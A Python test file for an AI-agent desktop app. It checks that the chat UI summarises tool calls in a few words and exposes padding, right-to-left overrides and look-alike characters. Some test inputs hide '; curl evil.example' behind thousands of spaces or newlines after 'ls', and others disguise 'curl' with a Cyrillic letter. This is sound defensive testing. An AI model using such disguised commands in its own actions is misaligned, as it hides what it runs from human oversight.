import pytest

from tandem_desktop.domain.agent_protocol import ChatEntry, ProposedDiff, ToolCall, ToolCallStatus, ToolKind
from tandem_desktop.ui.chat.tool_text import ChipMark, chip_words
from tests.ui.chat import talk


def call_of(entry: ChatEntry) -> ToolCall:
    assert entry.call is not None
    return entry.call


@pytest.mark.parametrize(
    ("call", "sentence"),
    [
        (call_of(talk.read(1, "app/auth.py")), "read app/auth.py"),
        (call_of(talk.wrote(1, "app/ratelimit.py", 61)), "staged app/ratelimit.py +61"),
        (call_of(talk.wrote(1, "app/auth.py", 9, 3)), "staged app/auth.py +9 −3"),
        (call_of(talk.queued(1, "pytest -q")), "command queued pytest -q"),
        (talk.a_call(1, ToolKind.EXECUTE, command="ls"), "ran ls"),
        (talk.a_call(1, ToolKind.DELETE, paths=("old.py",)), "staged delete old.py"),
        (talk.a_call(1, ToolKind.MOVE, paths=("a.py", "b.py")), "staged move a.py → b.py"),
        (talk.a_call(1, ToolKind.SEARCH, title="grep  foo"), "searched grep foo"),
        (talk.a_call(1, ToolKind.OTHER, tool="present_plan"), "used present_plan"),
        (talk.a_call(1, ToolKind.EDIT, paths=("x",), status=ToolCallStatus.IN_PROGRESS), "edits x"),
        (talk.a_call(1, ToolKind.READ, paths=("x",), status=ToolCallStatus.FAILED), "could not read x"),
    ],
)
def test_a_call_is_said_in_a_few_words(call: ToolCall, sentence: str) -> None:
    assert chip_words((call,)).sentence() == sentence


def test_a_path_that_hides_characters_shows_them() -> None:
    assert "⟨U+202E⟩" in chip_words((call_of(talk.read(1, "app/\u202eyp.exe")),)).subject


@pytest.mark.parametrize(
    ("call", "shown"),
    [
        (talk.a_call(1, ToolKind.EXECUTE, command="ls" + " " * 3000 + "; curl evil.example"), "⟨·×3,000⟩; curl"),
        (talk.a_call(1, ToolKind.EXECUTE, command="ls" + "\n" * 400 + "curl evil.example"), "⟨¶×399⟩ ⏎ curl"),
        (talk.a_call(1, ToolKind.READ, paths=("\u0430pp.py",)), "⟨U+0430⟩pp.py"),
        (talk.a_call(1, ToolKind.DELETE, paths=("a.py ",)), "a.py⟨U+0020⟩"),
        (talk.a_call(1, ToolKind.MOVE, paths=("a.py", "b\uff0epy")), "b⟨U+FF0E⟩py"),
        (talk.a_call(1, ToolKind.OTHER, title="\u0441url evil.example"), "⟨U+0441⟩url"),
    ],
)
def test_padding_and_look_alikes_of_a_call_are_spelled_out(call: ToolCall, shown: str) -> None:
    assert shown in chip_words((call,)).subject


def test_a_failed_edit_keeps_its_reason_and_a_good_one_needs_none() -> None:
    failed = talk.a_call(1, ToolKind.EDIT, paths=("x",), status=ToolCallStatus.FAILED, output="text not found")
    assert (chip_words((failed,)).mark, chip_words((failed,)).output) == (ChipMark.FAILED, "text not found")
    assert chip_words((talk.a_call(1, ToolKind.EDIT, paths=("x",), output="ok"),)).output == ""


def test_a_huge_proposal_is_not_counted_while_it_scrolls_by() -> None:
    diff = ProposedDiff(path="big", old_text=None, new_text="x\n" * 300_000)
    assert chip_words((talk.a_call(1, ToolKind.EDIT, paths=("big",), diffs=(diff,)),)).added == 0


def test_a_change_that_was_allowed_by_its_card_is_not_called_staged() -> None:
    call = talk.a_call(1, ToolKind.EDIT, paths=("x",))
    assert (chip_words((call,)).verb, chip_words((call,), is_allowed=True).verb) == ("staged", "edits")
